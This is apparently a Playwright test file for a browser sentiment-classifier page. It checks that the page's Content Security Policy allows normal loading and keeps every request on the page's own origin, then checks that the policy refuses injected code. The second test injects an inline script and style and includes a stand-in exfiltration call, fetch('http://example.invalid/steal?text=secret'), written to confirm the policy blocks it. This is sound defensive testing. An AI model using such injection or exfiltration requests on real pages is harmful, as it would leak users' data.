// The page under its Content Security Policy (scripts/serve.mjs): it loads, classifies a typed
// review and fetches what it needs with the policy breaking none of it, and every request it
// makes (page, workers, service worker) goes to its own origin: nothing typed or loaded leaves.
// Then the policy is seen to bite: an injected inline script and inline style, and a plain-http
// fetch to another host, are refused. (eval is not tried: code run through DevTools, as
// Playwright's is, may eval whatever the policy says.)
//
// Needs pkg/, models/all-MiniLM-L6-v2 and chromium; skips otherwise (fails with CI set).

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { CONTENT_SECURITY_POLICY } from '../../scripts/serve.mjs';
import {
  classifyTyped,
  launch,
  openPage,
  prerequisites,
  waitClassifier,
  waitReady,
  watchSecurity,
} from './harness.mjs';

const ready = await prerequisites();
const { skip } = ready;

describe('the page under its Content Security Policy', () => {
  let browser;
  let security;
  let page;
  let log = [];
  /** How much of the log came before the test that breaks the policy on purpose. */
  let ownLog = Infinity;
  before(async () => {
    if (skip) return;
    ready.requireReady();
    browser = await launch({ webgpu: false });
    security = await watchSecurity(browser.context);
  });
  after(async () => {
    const errors = log.slice(0, ownLog).filter((l) => /^\[(pageerror|error|worker error)\]/.test(l));
    if (errors.length) console.log(`# page errors:\n${errors.map((l) => `#   ${l}`).join('\n')}`);
    await browser?.close();
  });

  test(
    'loads, classifies a typed review, breaks no rule of the policy and asks only its own origin',
    { skip, timeout: 300_000 },
    async () => {
      let openedAt;
      const origin = new URL(browser.url).origin;
      const loaded = browser.context.waitForEvent('response', (r) => r.url() === `${browser.url}?device=cpu`);
      ({ page, log, openedAt } = await openPage(browser.context, `${browser.url}?device=cpu`));
      assert.equal((await loaded).headers()['content-security-policy'], CONTENT_SECURITY_POLICY);

      const { info } = await waitReady(page, openedAt, 120_000);
      assert.equal(info.device, 'cpu');
      await waitClassifier(page);
      assert.match(
        await classifyTyped(page, 'Delicious, fresh and fast delivery. Will buy again!'),
        /^positive/,
      );
      // The service worker has installed (it fetches the app shell and both builds).
      await page.evaluate(() => window.bertweb.serviceWorker);

      assert.deepEqual(security.violations, [], `the policy refused:\n${security.violations.join('\n')}`);
      const paths = security.requests.map((u) => new URL(u).pathname);
      for (const path of [
        '/www/worker.js',
        '/pkg/cpu/bertweb_bg.wasm',
        '/models/all-MiniLM-L6-v2/model.safetensors',
      ]) {
        assert.ok(paths.includes(path), `${path} was requested (seen: ${[...new Set(paths)].join(', ')})`);
      }
      const elsewhere = security.requests.filter((u) => {
        const url = new URL(u);
        return /^(https?|wss?):$/.test(url.protocol)
          ? url.origin !== origin
          : !/^(data|blob):$/.test(url.protocol);
      });
      assert.deepEqual(elsewhere, [], `requests off the page's origin ${origin}`);
      console.log(`# ${security.requests.length} requests, all to ${origin}; no CSP violation`);
    },
  );

  test(
    'the policy bites: inline script, inline style and plain http to another host are refused',
    { skip, timeout: 60_000 },
    async () => {
      assert.ok(page, 'the page opened in the test before');
      security.violations.length = 0;
      ownLog = log.length;
      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true;';
        document.body.append(script);
        const styled = document.createElement('p');
        styled.setAttribute('style', 'color: rgb(255, 0, 0)');
        document.body.append(styled);
        const color = getComputedStyle(styled).color;
        styled.remove();
        let fetched;
        try {
          await fetch('http://example.invalid/steal?text=secret');
          fetched = 'sent';
        } catch (err) {
          fetched = err.name;
        }
        // Violation events are queued as tasks: let them arrive.
        await new Promise((resolve) => setTimeout(resolve, 200));
        return {
          injected: Boolean(/** @type {any} */ (window).__injected),
          red: color === 'rgb(255, 0, 0)',
          fetched,
        };
      });
      assert.deepEqual(outcome, { injected: false, red: false, fetched: 'TypeError' });
      const events = security.violations.filter((v) => !v.startsWith('[console'));
      for (const directive of [
        'script-src-elem: inline',
        'style-src-attr: inline',
        'connect-src: http://example.invalid',
      ]) {
        assert.ok(
          events.some((v) => v.startsWith(directive)),
          `${directive} reported (got: ${security.violations.join('; ')})`,
        );
      }
    },
  );
});
